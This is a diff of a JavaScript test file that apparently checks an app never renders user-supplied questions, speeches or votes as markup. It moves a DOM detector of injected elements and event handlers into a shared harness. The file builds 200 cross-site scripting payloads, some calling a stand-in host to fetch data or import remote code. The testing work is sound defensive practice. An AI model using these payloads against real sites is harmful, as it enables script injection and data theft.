@@ -1,6 +1,6 @@
 // 200 texts that would run, if anything here made markup of text: as questions, as speeches, as votes, on every page.
 
-import { assert, scenario } from './harness.mjs';
+import { assert, scenario, strange } from './harness.mjs';
 
 const CALLS = ['alert(1)', 'confirm(2)', 'prompt(3)', "fetch('//evil.test/x')", "import('//evil.test/m.js')"];
 
@@ -49,28 +49,6 @@ const SHAPES = [
 
 const PAYLOADS = SHAPES.flatMap((shape) => CALLS.map(shape));
 const HALF = 100;
-
-/** Nothing on the page that was not put there by us. */
-const strange = () =>
-  [
-    ...document.querySelectorAll(
-      '#app :is(script, iframe, object, embed, style, link, base, meta, video, audio, form[action], svg image), #app img:not([src="/assets/icon.svg"])',
-    ),
-  ]
-    .map((it) => it.outerHTML.slice(0, 200))
-    .concat(
-      [...document.querySelectorAll('*')].flatMap((it) =>
-        [...it.attributes]
-          .filter(
-            ({ name }) =>
-              /^on|^srcdoc$|^style$/.test(name) && !(name === 'style' && !/url|import/i.test(it.style.cssText)),
-          )
-          .map(({ name, value }) => `${name}=${value}`),
-      ),
-      [...document.querySelectorAll('a[href]')]
-        .filter((it) => !['http:', 'https:', 'blob:'].includes(it.protocol))
-        .map((it) => it.href),
-    );
 
 await scenario('[defaults]\nsimulate = "latency=0ms"\nseed = 3\n', async (server, open) => {
   assert.equal(PAYLOADS.length, 200);
